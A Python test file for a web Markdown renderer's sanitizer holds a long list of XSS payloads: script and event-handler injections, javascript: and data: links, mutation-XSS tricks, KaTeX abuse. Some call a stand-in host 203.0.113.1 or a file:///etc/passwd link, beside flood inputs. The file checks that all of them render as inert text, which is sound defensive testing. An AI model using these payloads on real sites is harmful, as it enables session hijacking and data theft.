"""Hostile text on a page: what is left of it is on an allow-list, and in a real Chromium nothing of it runs."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fairtrial.web.rendering import LIMIT, render, shown

ALLOWED = {
    "a": {"href", "rel"}, "ol": {"start"}, "td": {"align"}, "th": {"align"}, "span": {"data-math-style", "class"},
    "div": {"class", "tabindex"}, "pre": {"tabindex", "class"}, "details": {"class"}, "summary": set(),
} | {
    tag: set() for tag in (
        "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "p", "strong", "table", "tbody",
        "thead", "tr", "ul",
    )
}  # fmt: skip
VALUES = {
    "class": {"image", "scroll", "plain", "rest"}, "tabindex": {"0"}, "align": {"left", "right", "center"},
    "data-math-style": {"inline", "display"}, "rel": {"noopener noreferrer nofollow"},
}  # fmt: skip
VOID = {"br", "hr"}

RUN = "window.pwned=1"
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<script src=//203.0.113.1/x.js>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n'{RUN}'//",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>click</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<a href="javascript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](&#x6A;avascript&colon;{RUN})",
    f"[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;{RUN})",
    f"[x](java&Tab;script&colon;{RUN})",
    f"[x](java&NewLine;script:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](\u00a0javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](//203.0.113.1/steal)",
    "[x](/battles/x/withdraw)",
    "[x](\\\\203.0.113.1\\x)",
    "[x](blob:http://203.0.113.1/1)",
    "[x](file:///etc/passwd)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'[x](https://example.org/ "onmouseover={RUN}")',
    f'[x](https://example.org/"onmouseover="{RUN})',
    f"[x](https://example.org/'\"><img src=x onerror={RUN}>)",
    f"<javascript:{RUN}>",
    f'<https://example.org/"onmouseover={RUN}>',
    f'https://example.org/"onmouseover="{RUN}',
    f'<x@example.org"onmouseover={RUN}>',
    "![x](http://203.0.113.1/seen.png)",
    f'!["onerror="{RUN}](x)',
    f"![<img src=x onerror={RUN}>](x)",
    f"![x](javascript:{RUN})",
    f"![x](x \"' onerror={RUN}\")",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LnB3bmVkPTE+)",
    "<img src=http://203.0.113.1/seen.png><link rel=stylesheet href=//203.0.113.1/x.css>",
    "<style>@import '//203.0.113.1/x.css'; body { display: none }</style>",
    '<p style="position:fixed;inset:0;background:url(//203.0.113.1/x)">x</p>',
    "<form action=/battles/x/vote method=post><button>go</button></form>",
    "<input name=prompt autofocus onfocus=window.pwned=1>",
    "<button formaction=//203.0.113.1>x</button>",
    '<meta http-equiv=refresh content="0;url=//203.0.113.1">',
    "<base href=//203.0.113.1/>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<body onload={RUN}><marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}></select><textarea autofocus onfocus={RUN}>",
    "<a id=katex></a><img name=battle><form id=main name=location></form><a name=formulas>",
    "<div data-battle data-events=/x></div><button data-key=1>x</button><p role=status data-finished>",
    "<span data-math-style=inline>\\href{javascript:window.pwned=1}{x}</span>",
    "$\\href{javascript:window.pwned=1}{x}$ $\\url{javascript:window.pwned=1}$ $\\htmlId{katex}{x}$",
    "$\\includegraphics{http://203.0.113.1/x.png}$ $\\htmlData{key=1}{x}$ $\\htmlStyle{position:fixed}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\rule{100000em}{100000em}$",
    "$\\frac{1$ $\\nosuch{x}$ $x^$",
    "$</span><img src=x onerror=window.pwned=1>$",
    f'```html"onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>\n\n1. <iframe>\n\n- [x]<script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]><?xml-stylesheet href='javascript:{RUN}'?><!DOCTYPE x>",
    f"<!--><script>{RUN}</script>--><!--[if IE]><script>{RUN}</script><![endif]-->",
    f"</div></section></main></body></html><script>{RUN}</script>",
    f'<a href="https://example.org" onclick={RUN} target=_top ping=//203.0.113.1>x</a>',
    f"＜script＞{RUN}＜/script＞ %3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e &lt;script&gt;{RUN}&lt;/script&gt;",
    f"<scr\x00ipt>{RUN}</scr\x00ipt> \x00<\x00script>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 * 7 %> #{7*7}",
    "safe \u202eexe.gpj\u202c \u2066x\u2069 zero\u200bwidth \ufeff \x1b[2J",
    "[\u202exgro.live//:sptth](https://example.org)",
)  # fmt: skip
FLOODS = {
    "quotes": "> " * (LIMIT // 2),
    "tight quotes": ">" * LIMIT,
    "lists": "".join(" " * n + "- x\n" for n in range(350)),
    "list of one line": "- " * (LIMIT // 2),
    "brackets": "[" * LIMIT,
    "closed brackets": "[" * (LIMIT // 2) + "]" * (LIMIT // 2),
    "links": "[a](" * (LIMIT // 4),
    "images": "![" * (LIMIT // 2),
    "definitions": "[a]: b\n" * (LIMIT // 7),
    "emphasis": "*a_ " * (LIMIT // 4),
    "stars": "*" * LIMIT,
    "strike": "~~a" * (LIMIT // 3),
    "table": "|" * 32_000 + "\n" + "|-" * 16_000 + "\n",
    "tall table": "|" * 400 + "\n" + "|-" * 400 + "\n" + "x\n" * 30_000,
    "dollars": "$" * LIMIT,
    "formulas": "$a$ " * (LIMIT // 4),
    "open formulas": "$a " * (LIMIT // 3),
    "backslashes": "\\" * LIMIT,
    "latex": "\\(" * (LIMIT // 2),
    "latex display": "\\[" * (LIMIT // 2),
    "backticks": "".join("`" * n + "a" for n in range(360)),
    "angles": "<" * LIMIT,
    "tags": "<a>" * (LIMIT // 3),
    "comments": "<!--" * (LIMIT // 4),
    "entities": "&amp;" * (LIMIT // 5),
    "autolinks": "<https://a.b> " * (LIMIT // 14),
    "bidi": "\u202e" * LIMIT,
    "joiners": "\u200d" * LIMIT,
    "emoji": "👩\u200d" * (LIMIT // 2),
    "nulls": "\x00" * LIMIT,
    "lines": "\n" * LIMIT,
    "returns": "\r" * LIMIT,
    "tabs": "\t" * LIMIT,
    "too long": "**a** " * (LIMIT // 3),
}


class Reader(HTMLParser):
    """Reads HTML, and fails at whatever is not on the list or is not closed in order."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        assert tag in ALLOWED, tag
        assert len(dict(attrs)) == len(attrs)
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            assert value is not None
            assert name not in VALUES or value in VALUES[name], (tag, name, value)
            if name == "href":
                assert value.lower().startswith(("http://", "https://", "mailto:")), value
            if name == "start":
                assert value.isdecimal()
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data) -> None:
        self.text.append(data)

    def handle_comment(self, data) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(html: str) -> str:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return "".join(reader.text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_text(attack):
    html = render(attack)
    read(html)
    for before in ("> ", "1. ", "- ", "# ", "**", "    ", "| a |\n|---|\n| "):
        read(render(before + attack))


def test_attacks_next_to_each_other_are_text():
    read(render("\n\n".join(ATTACKS)))
    read(render(" ".join(ATTACKS)))


@pytest.mark.parametrize("kind", FLOODS)
def test_a_flood_is_read_or_shown_as_it_is(kind):
    html = render(FLOODS[kind])
    read(html)
    # Escapes, marks of hidden characters, and tags of short elements make text longer, but by no order of size.
    assert len(html) < 40 * LIMIT


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*"<>\"'&;:/\\[]()!*_`~$|#-= \n\tax", "\u202e", "javascript:", "<script>", "-->", "]]>",
    "http://", "onerror=", "$$", "```", "\\(", "\\)", "|-|\n", "<img src=x ", "&#x3c;", "<a href=", "[x]: "]), max_size=60))  # fmt: skip
def test_no_mixture_gives_more_than_the_list(pieces):
    read(render("".join(pieces)))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_any_text_can_be_shown(text):
    read(render(text))
    assert "\u202e" not in shown(text)
    assert shown(shown(text)) == shown(text)


def test_what_markdown_is_for_is_kept():
    html = render(
        "# Title\n\n*one* **two** ~~three~~ `four`\n\n1. a\n2. b\n\n- c\n\n> d\n\n| e | f |\n|:-|-:|\n| 1 | 2 |\n\n"
        "```python\nprint(1 < 2)\n```\n\n[g](https://example.org/?a=1&b=2) $x^2$ \\(y\\)\n\n$$z$$\n\n![alt *text*](x.png)"
    )
    text = read(html)
    for piece in (
        "<h3>Title</h3>", "<em>one</em>", "<strong>two</strong>", "<del>three</del>", "<code>four</code>", "<ol>", "<ul>",
        "<blockquote>", '<th align="left">e</th>', '<td align="right">2</td>', "print(1 &lt; 2)",
        'href="https://example.org/?a=1&amp;b=2"', '<span data-math-style="inline">x^2</span>',
        '<span data-math-style="inline">y</span>', '<span data-math-style="display">z</span>',
        '<span class="image">alt text</span>', 'rel="noopener noreferrer nofollow"',
    ):  # fmt: skip
        assert piece in html, piece
    assert "print(1 < 2)" in text


def test_hidden_characters_are_spelt_out_and_those_that_shape_letters_kept():
    assert "RLO" in shown("a\u202eb")
    assert "\u202e" not in render("`a\u202eb` [x\u202e](https://example.org/\u202e)")
    assert shown("👩\u200d🚀") == "👩\u200d🚀"
    assert shown("می\u200cخواهم") == "می\u200cخواهم"
    assert shown("a\u200db") == "a⟨ZWJ⟩b"
    assert shown("a\r\nb\rc") == "a\nb\nc"


def test_what_is_beyond_the_limit_is_folded_and_not_lost():
    long = "word " * (LIMIT // 5) + " " * (LIMIT % 5) + "<script>end</script>"
    text = read(render(long, rest="The rest"))
    assert "The rest" in text
    assert text.endswith("<script>end</script>")
